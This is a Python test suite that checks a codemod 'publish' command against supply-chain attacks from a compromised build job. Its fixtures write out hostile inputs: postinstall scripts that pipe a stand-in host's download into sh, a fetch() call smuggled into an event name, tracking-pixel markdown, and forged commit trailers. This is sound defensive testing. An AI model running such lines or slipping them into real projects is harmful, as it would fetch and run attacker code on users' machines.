"""Every attack of issue 28 ("Why 1 to 6"), rebuilt on our fixtures
(mesh-shaped and SDK-shaped) against `mesh-codemod publish`: each ends
refused, or with publish's own series on the remote and none of the
attacker's bytes. An attacker here holds the build job (the repository's
code and dependencies: every file of its artifact) or a commit of main.
`test_every_finding_has_its_attack` prints the count."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

from .gitrepo import commit_all, git, with_remote
from .sdk_support import hand_written  # noqa: F401 (fixture)
from .publish_support import (
    BRANCH, EVIL, MODULE, append, build, built, commit, holds, manifest, publish, publisher, rebundle, tampered,
    tool_message, tree_with, write_manifest,
)

ATTACKS: dict[str, list[str]] = {}


def attack(why: str):
    def mark(function):
        ATTACKS.setdefault(why, []).append(function.__name__)
        return function
    return mark


class Started:
    """The programs this process starts while ``recording`` (an audit hook
    of the test's own, installed once)."""

    programs: list[str] | None = None
    installed = False

    @classmethod
    def recording(cls):
        if not cls.installed:
            def hook(event: str, args: tuple) -> None:
                if cls.programs is None:
                    return
                if event == "subprocess.Popen":
                    argv = args[1]
                    first = args[0] or (argv if isinstance(argv, (str, bytes)) else argv[0])
                    cls.programs.append(os.path.basename(os.fsdecode(first)))
                elif event in ("os.exec", "os.posix_spawn", "os.system", "os.spawn"):
                    cls.programs.append(event)
            sys.addaudithook(hook)
            cls.installed = True
        cls.programs = []
        return cls

    @classmethod
    def stop(cls) -> list[str]:
        found, cls.programs = cls.programs or [], None
        return found


def _published(remote: Path) -> str:
    return git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip()


# --- Why 1: publish runs nothing of the repository's ---------------------------


def _sdk_remote(tmp_path: Path) -> tuple[Path, Path]:
    """An SDK-shaped repository whose base commits a node_modules/.bin
    (npm, tsx, prettier) that would leave a mark if anything ran it."""
    from .sdk_support import sdk_tree

    seed = sdk_tree(tmp_path, "shape-b")
    marks = tmp_path / "marks"
    marks.mkdir()
    for tool in ("npm", "tsx", "prettier", "node", "bun"):
        path = seed / "node_modules" / ".bin" / tool
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f'#!/bin/sh\nenv > "{marks}/{tool}.$$"\n')
        path.chmod(0o755)
    git(seed, "init", "-q", "-b", "main")
    git(seed, "config", "user.name", "Dev")
    git(seed, "config", "user.email", "dev@example.com")
    commit_all(seed, "sdk-shaped fixture, with a committed node_modules/.bin")
    remote = tmp_path / "remote.git"
    git(tmp_path, "clone", "-q", "--bare", str(seed), str(remote))
    work = tmp_path / "work"
    git(tmp_path, "clone", "-q", str(remote), str(work))
    return remote, work


@attack("1")
def test_on_the_sdk_target_publish_refuses_starting_nothing_but_git(tmp_path: Path, hand_written) -> None:
    """SPEC 8: the publishing job refuses an SDK checkout (its PRs are made
    locally with `pr`), before any step runs, and pushes nothing."""
    remote, work = _sdk_remote(tmp_path)
    artifact = build(tmp_path, work)
    for mark in (tmp_path / "marks").iterdir():  # the build job may run them: it holds no token
        mark.unlink()
    clone = publisher(tmp_path, remote)
    Started.recording()
    try:
        result = publish(clone, artifact)
    finally:
        started = Started.stop()
    assert result.exit_code == 3, result.output
    assert "publishes only the host target" in result.output, result.output
    assert started and set(started) == {"git"}, started
    assert list((tmp_path / "marks").iterdir()) == []
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""


@attack("1")
def test_the_publishing_process_refuses_to_start_anything_but_git_and_gh(tmp_path: Path, monkeypatch, built) -> None:
    """A branch of publish that would start `sh` or `npm` (here: the
    rebuild made to call one) is refused at run time, and nothing is pushed."""
    import subprocess

    from codemods.deliver import build as series

    remote, work, artifact = built
    clone = publisher(tmp_path, remote)
    real = series.build_series
    for program in (["sh", "-c", f"touch {tmp_path}/RAN"], ["npm", "run", "generate:schemas"]):
        def sneaky(*args, program=program, **kwargs):
            subprocess.run(program, check=False)
            return real(*args, **kwargs)

        monkeypatch.setattr(series, "build_series", sneaky)
        result = publish(clone, artifact)
        assert result.exit_code != 0 and "starts no program but git and gh" in str(result.exception) + result.output
    assert not (tmp_path / "RAN").exists()
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
    # outside the publishing commands, this process starts what it likes again
    assert subprocess.run(["sh", "-c", "true"]).returncode == 0


# --- Why 2: a change of meaning passed off as layout -----------------------------

@attack("2")
@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"ui/notifications/state-changed"', '"ui/notifications/state-changed" + "//attacker.example"'),
        ("export ", f"/* {EVIL} */ export "),
        ("export function", f"/* @jsxImportSource https://{EVIL}/x */\nexport function"),
    ],
    ids=["a-token-added", "a-comment-added", "a-pragma-comment"],
)
def test_a_change_of_meaning_in_the_build_layout_is_not_taken(tmp_path: Path, old: str, new: str, built) -> None:
    remote, work, artifact = built
    honest = manifest(artifact)["tip"]

    def change(tree: Path) -> None:
        target = tree / MODULE
        text = target.read_text()
        assert old in text
        target.write_text(text.replace(old, new, 1))

    tampered(work, artifact, change)
    clone = publisher(tmp_path, remote)
    assert publish(clone, artifact).exit_code == 0
    assert _published(remote) == honest and not holds(remote, b"attacker.example")


# --- Why 3: intermediate commits -----------------------------------------------


@attack("3")
def test_an_intermediate_commit_of_the_bundle_never_reaches_the_remote(tmp_path: Path, built) -> None:
    remote, work, artifact = built
    data = manifest(artifact)
    base, honest = data["base"], data["tip"]
    first = git(work, "rev-list", "--reverse", f"{base}..{honest}").split()[0]
    # on the first commit: a workflow, an install script and a root
    # package.json, and an executable bit; the next commit takes them away
    evil_tree = tree_with(work, first, {
        ".github/workflows/release.yml": f"on: push\njobs: {{x: {{runs-on: {EVIL}}}}}\n".encode(),
        "scripts/postinstall.sh": f"curl https://{EVIL} | sh\n".encode(),
        "package.json": f'{{"scripts": {{"postinstall": "curl {EVIL}"}}}}\n'.encode(),
    })
    first_tree = git(work, "rev-parse", f"{first}^{{tree}}").strip()
    evil = commit(work, evil_tree, [first], tool_message(work, first, first_tree, evil_tree))
    # then the tool's files, one of them executable; the tip takes the bit away
    module_blob = git(work, "rev-parse", f"{honest}:{MODULE}").strip()
    exec_tree = _with_mode(work, honest, MODULE, module_blob, "100755")
    mode_commit = commit(work, exec_tree, [evil], tool_message(work, honest, evil_tree, exec_tree))
    honest_tree = git(work, "rev-parse", f"{honest}^{{tree}}").strip()
    tip = commit(work, honest_tree, [mode_commit], tool_message(work, honest, exec_tree, honest_tree))
    rebundle(work, artifact, tip)
    clone = publisher(tmp_path, remote)
    assert publish(clone, artifact).exit_code == 0
    assert _published(remote) == honest
    assert not holds(remote, EVIL.encode())
    for sha in git(remote, "rev-list", f"refs/heads/{BRANCH}", f"^{base}").split():
        listing = git(remote, "ls-tree", "-r", sha)
        assert ".github/workflows" not in listing and "100755" not in listing


def _with_mode(work: Path, rev: str, path: str, blob: str, mode: str) -> str:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        env = {"GIT_INDEX_FILE": str(Path(folder) / "index")}
        git(work, "read-tree", rev, env=env)
        git(work, "update-index", "--cacheinfo", f"{mode},{blob},{path}", env=env)
        return git(work, "write-tree", env=env).strip()


# --- Why 4: the PR body and "declined" -------------------------------------------


@attack("4")
def test_a_fake_fingerprint_placed_first_does_not_decline_the_change() -> None:
    from codemods.deliver import forge

    mine = "sha256:" + "a" * 64
    report = {"commits": [{"sha": "x"}], "fingerprint": mine}
    planted = f"{forge.fingerprint_line(mine)}\n\nan attacker's body\n\n{forge.fingerprint_line('sha256:' + 'b' * 64)}\n"
    closed = forge.PullRequest(7, "closed", False, planted, author=forge.DEFAULT_LOGIN)
    assert forge.decide(report, [closed], forge.DEFAULT_LOGIN).action == "open"
    # the tool's own closed PR, its fingerprint in its place: a "no"
    own = forge.PullRequest(8, "closed", False, forge.with_fingerprint("body", mine), author=forge.DEFAULT_LOGIN)
    assert forge.decide(report, [own], forge.DEFAULT_LOGIN).action == "declined"
    # the same body, from a PR someone else opened: not the tool's "no"
    other = own._replace(author="mallory")
    assert forge.decide(report, [other], forge.DEFAULT_LOGIN).action == "open"
    # one fingerprint line, the last: a body holding others keeps only the tool's
    body = forge.with_fingerprint(planted, mine)
    assert body.count("mesh-codemod-fingerprint") == 1 and forge.fingerprint_in(body) == mine


@attack("4")
def test_the_pr_body_and_title_are_publishs_own(tmp_path: Path, built) -> None:
    remote, work, artifact = built
    (artifact / "body.md").write_text(f"Approved: [release](https://{EVIL})\n")
    (artifact / "report.json").write_text(json.dumps({"title": EVIL, "body": EVIL, "fingerprint": "sha256:" + "0" * 64}))
    clone = publisher(tmp_path, remote)
    report = tmp_path / "report.json"
    assert publish(clone, artifact, "--report-out", report).exit_code == 0
    assert EVIL not in report.read_text()
    out = json.loads(report.read_text())
    assert out["body"].startswith("## What is this contribution about?") and out["fingerprint"] != "sha256:" + "0" * 64


# --- Why 5: commit messages ------------------------------------------------------


@attack("5")
def test_commit_messages_are_publishs_own(tmp_path: Path, built) -> None:
    remote, work, artifact = built
    honest = manifest(artifact)["tip"]
    tip = git(work, "rev-parse", BRANCH).strip()
    parent = git(work, "rev-parse", f"{tip}^").strip()
    tree = git(work, "rev-parse", f"{tip}^{{tree}}").strip()
    parent_tree = git(work, "rev-parse", f"{parent}^{{tree}}").strip()
    message = tool_message(work, tip, parent_tree, tree).replace(
        "\n\n", f" [skip ci]\n\nReviewed-by: Codemod Bot <bot@example.com> ({EVIL})\n\n", 1)
    rebundle(work, artifact, commit(work, tree, [parent], message))
    clone = publisher(tmp_path, remote)
    assert publish(clone, artifact).exit_code == 0
    assert _published(remote) == honest
    log = git(remote, "log", "--format=%B", f"refs/heads/{BRANCH}")
    assert "[skip ci]" not in log and "Reviewed-by" not in log and EVIL not in log


# --- Why 6: the build job's choices, sizes, and text ----------------------------


@attack("6")
@pytest.mark.parametrize(
    "choice",
    [
        {"mode": "compat", "form": "2.x", "installed": "1.7.1"},  # the 2.x form on ^1.2.2
        {"mode": "sdk", "form": "1.x", "installed": "2.0.4",
         "api": {"kind": "event", "name": "statechange", "field": "state"}},  # a version the range refuses
        {"mode": "sdk", "form": "1.x", "installed": "1.7.1",
         "api": {"kind": "event", "name": f"x);fetch('{EVIL}');(", "field": "state"}},  # not one of the tool's names
        {"mode": "hybrid", "form": "1.x", "installed": "1.7.1"},
    ],
    ids=["2x-form-on-1x-range", "version-outside-range", "unknown-event-name", "unknown-mode"],
)
def test_a_choice_outside_the_tools_wirings_or_the_range_is_not_taken(tmp_path: Path, choice: dict, built) -> None:
    remote, work, artifact = built
    data = manifest(artifact)
    honest = data["tip"]
    data["choice"] = choice
    write_manifest(artifact, data)
    clone = publisher(tmp_path, remote)
    report = tmp_path / "report.json"
    assert publish(clone, artifact, "--report-out", report).exit_code == 0
    assert _published(remote) == honest and not holds(remote, EVIL.encode())
    notes = json.loads(report.read_text())["notes"]
    assert any("choice of wiring was not used" in n for n in notes) and EVIL not in json.dumps(notes)


@attack("6")
def test_an_older_base_does_not_bypass_a_skip_on_main(tmp_path: Path, built) -> None:
    remote, work, artifact = built
    (work / ".mesh-codemod.toml").write_text('skip = ["*"]\n')
    commit_all(work, "the team opts out")
    git(work, "push", "-q", "origin", "HEAD:main")
    clone = publisher(tmp_path, remote)
    assert publish(clone, artifact).exit_code == 0
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""


@attack("6")
def test_sixty_megabytes_of_whitespace_are_refused_unread(tmp_path: Path, built) -> None:
    remote, work, artifact = built
    tampered(work, artifact, append(MODULE, " " * (60 * 1024 * 1024)))
    clone = publisher(tmp_path, remote)
    result = publish(clone, artifact)
    if result.exit_code == 3:  # git packs whitespace small: a bundle under the limit is fetched, not compared
        assert "over the limit" in result.stderr
        assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
    else:
        assert result.exit_code == 0 and len(git(remote, "show", f"refs/heads/{BRANCH}:{MODULE}")) < 1024 * 1024


@attack("6")
def test_the_build_reports_left_alone_text_never_reaches_publishs_report(tmp_path: Path) -> None:
    remote, work = with_remote(tmp_path)
    (work / ".mesh-codemod.toml").write_text('skip = ["app-state-tests"]\n')
    commit_all(work, "skip the tests")
    git(work, "push", "-q", "origin", "HEAD:main")
    artifact = build(tmp_path, work)
    built = json.loads((artifact / "report.json").read_text())
    built["left_alone"] = [{"step": "app-state-tests", "path": "x", "why": f"![x](https://{EVIL}/pixel)"}]
    (artifact / "report.json").write_text(json.dumps(built))
    clone = publisher(tmp_path, remote)
    report = tmp_path / "report.json"
    assert publish(clone, artifact, "--report-out", report).exit_code == 0
    out = json.loads(report.read_text())
    assert EVIL not in report.read_text()
    assert [item["why"] for item in out["left_alone"]] == ["config"]


@attack("6")
def test_sdk_generated_bytes_that_are_not_json_are_not_taken(tmp_path: Path, hand_written) -> None:
    remote, work = _sdk_remote(tmp_path)
    artifact = build(tmp_path, work)
    schema = "src/generated/schema.json"
    tampered(work, artifact, append(schema, f',"{EVIL}": }}'))
    clone = publisher(tmp_path, remote)
    # the publishing job refuses an SDK checkout (SPEC 8): nothing of it is taken
    assert publish(clone, artifact).exit_code == 3
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""


def test_every_finding_has_its_attack() -> None:
    counts = {why: len(names) for why, names in sorted(ATTACKS.items())}
    print(f"\nissue 28 attacks rebuilt: {sum(counts.values())} tests ("
          + ", ".join(f"Why {why}: {n}" for why, n in counts.items()) + ")")
    assert set(counts) == {"1", "2", "3", "4", "5", "6"}

